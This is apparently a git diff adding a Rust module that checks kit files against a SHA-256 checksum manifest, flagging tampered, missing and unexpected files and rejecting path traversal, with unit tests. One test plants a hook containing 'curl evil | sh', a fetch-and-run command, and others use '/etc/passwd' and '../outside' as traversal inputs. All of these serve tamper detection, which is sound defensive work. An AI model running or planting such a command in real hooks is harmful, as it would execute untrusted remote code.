@@ -0,0 +1,191 @@
+//! Kit content integrity checks against a shipped checksum manifest.
+
+use genesis_types::{GenesisError, Result};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::fs::File;
+use std::path::{Component, Path, PathBuf};
+use walkdir::WalkDir;
+
+/// Checksum manifest shipped at the kit root, in `sha256sum` format.
+pub const CHECKSUM_FILE: &str = ".kit-checksums";
+
+/// Result of verifying a kit's files against its checksum manifest.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct IntegrityReport {
+    /// Whether the kit ships a checksum manifest at all
+    pub manifest_present: bool,
+    /// Number of files listed in the manifest
+    pub checked: usize,
+    /// Listed files whose contents no longer match
+    pub mismatched: Vec<PathBuf>,
+    /// Listed files that no longer exist
+    pub missing: Vec<PathBuf>,
+    /// Files present in the kit but not listed
+    pub extra: Vec<PathBuf>,
+}
+
+impl IntegrityReport {
+    /// Whether the kit matches its manifest (trivially true without one).
+    pub fn is_clean(&self) -> bool {
+        self.mismatched.is_empty() && self.missing.is_empty() && self.extra.is_empty()
+    }
+
+    /// Describe every problem found, one per line.
+    pub fn problems(&self) -> Vec<String> {
+        let mut problems = Vec::new();
+        problems.extend(self.mismatched.iter().map(|p| format!("checksum mismatch: {}", p.display())));
+        problems.extend(self.missing.iter().map(|p| format!("missing: {}", p.display())));
+        problems.extend(self.extra.iter().map(|p| format!("unexpected file: {}", p.display())));
+        problems
+    }
+}
+
+/// Verify the files under `root` against `root/.kit-checksums`.
+pub fn verify(root: &Path) -> Result<IntegrityReport> {
+    let manifest_path = root.join(CHECKSUM_FILE);
+    if !manifest_path.exists() {
+        return Ok(IntegrityReport::default());
+    }
+
+    let content = std::fs::read_to_string(&manifest_path)
+        .map_err(|e| GenesisError::Kit(format!("Failed to read {}: {}", CHECKSUM_FILE, e)))?;
+    let expected = parse_manifest(&content)?;
+
+    let mut report = IntegrityReport {
+        manifest_present: true,
+        checked: expected.len(),
+        ..Default::default()
+    };
+
+    for (path, checksum) in &expected {
+        let full_path = root.join(path);
+        if !full_path.is_file() {
+            report.missing.push(path.clone());
+        } else if !sha256_file(&full_path)?.eq_ignore_ascii_case(checksum) {
+            report.mismatched.push(path.clone());
+        }
+    }
+
+    for entry in WalkDir::new(root).sort_by_file_name() {
+        let entry = entry
+            .map_err(|e| GenesisError::Kit(format!("Failed to walk kit directory: {}", e)))?;
+        if entry.file_type().is_dir() {
+            continue;
+        }
+
+        let relative = entry.path().strip_prefix(root).unwrap_or(entry.path()).to_path_buf();
+        if relative != Path::new(CHECKSUM_FILE) && !expected.contains_key(&relative) {
+            report.extra.push(relative);
+        }
+    }
+
+    Ok(report)
+}
+
+/// Parse `<sha256>  <path>` lines, accepting the `*path` binary marker.
+fn parse_manifest(content: &str) -> Result<BTreeMap<PathBuf, String>> {
+    let mut entries = BTreeMap::new();
+
+    for (line_no, line) in content.lines().enumerate() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+
+        let (checksum, path) = line.split_once(char::is_whitespace)
+            .ok_or_else(|| GenesisError::Kit(format!(
+                "Malformed {} line {}: {}", CHECKSUM_FILE, line_no + 1, line
+            )))?;
+        let path = path.trim_start();
+        let path = Path::new(path.strip_prefix('*').unwrap_or(path));
+
+        let normalized: PathBuf = path.components()
+            .filter(|c| !matches!(c, Component::CurDir))
+            .collect();
+        if normalized.components().any(|c| !matches!(c, Component::Normal(_))) {
+            return Err(GenesisError::Kit(format!(
+                "Unsafe path in {} line {}: {}", CHECKSUM_FILE, line_no + 1, path.display()
+            )));
+        }
+
+        entries.insert(normalized, checksum.to_string());
+    }
+
+    Ok(entries)
+}
+
+fn sha256_file(path: &Path) -> Result<String> {
+    let mut file = File::open(path)
+        .map_err(|e| GenesisError::Kit(format!("Failed to open {:?}: {}", path, e)))?;
+
+    let mut hasher = Sha256::new();
+    std::io::copy(&mut file, &mut hasher)
+        .map_err(|e| GenesisError::Kit(format!("Failed to hash {:?}: {}", path, e)))?;
+
+    Ok(hex::encode(hasher.finalize()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    fn kit_fixture() -> TempDir {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path();
+        std::fs::create_dir_all(root.join("hooks")).unwrap();
+        std::fs::write(root.join("kit.yml"), "name: test\nversion: 1.0.0\n").unwrap();
+        std::fs::write(root.join("base.yml"), "name: test\n").unwrap();
+        std::fs::write(root.join("hooks/new"), "#!/bin/bash\n").unwrap();
+
+        let manifest: String = ["kit.yml", "base.yml", "hooks/new"].iter()
+            .map(|file| format!("{}  ./{}\n", sha256_file(&root.join(file)).unwrap(), file))
+            .collect();
+        std::fs::write(root.join(CHECKSUM_FILE), manifest).unwrap();
+
+        temp_dir
+    }
+
+    #[test]
+    fn test_verify_clean_kit() {
+        let kit = kit_fixture();
+        let report = verify(kit.path()).unwrap();
+
+        assert!(report.manifest_present);
+        assert_eq!(report.checked, 3);
+        assert!(report.is_clean());
+    }
+
+    #[test]
+    fn test_verify_flags_tampering() {
+        let kit = kit_fixture();
+        std::fs::write(kit.path().join("base.yml"), "name: evil\n").unwrap();
+        std::fs::remove_file(kit.path().join("hooks/new")).unwrap();
+        std::fs::write(kit.path().join("hooks/extra"), "curl evil | sh\n").unwrap();
+
+        let report = verify(kit.path()).unwrap();
+        assert!(!report.is_clean());
+        assert_eq!(report.mismatched, vec![PathBuf::from("base.yml")]);
+        assert_eq!(report.missing, vec![PathBuf::from("hooks/new")]);
+        assert_eq!(report.extra, vec![PathBuf::from("hooks/extra")]);
+        assert_eq!(report.problems().len(), 3);
+    }
+
+    #[test]
+    fn test_verify_without_manifest() {
+        let temp_dir = TempDir::new().unwrap();
+        std::fs::write(temp_dir.path().join("kit.yml"), "name: test\n").unwrap();
+
+        let report = verify(temp_dir.path()).unwrap();
+        assert!(!report.manifest_present);
+        assert!(report.is_clean());
+    }
+
+    #[test]
+    fn test_manifest_rejects_unsafe_paths() {
+        assert!(parse_manifest("abc  ../outside\n").is_err());
+        assert!(parse_manifest("abc  /etc/passwd\n").is_err());
+        assert!(parse_manifest("abc *bin/tool\n").unwrap().contains_key(Path::new("bin/tool")));
+    }
+}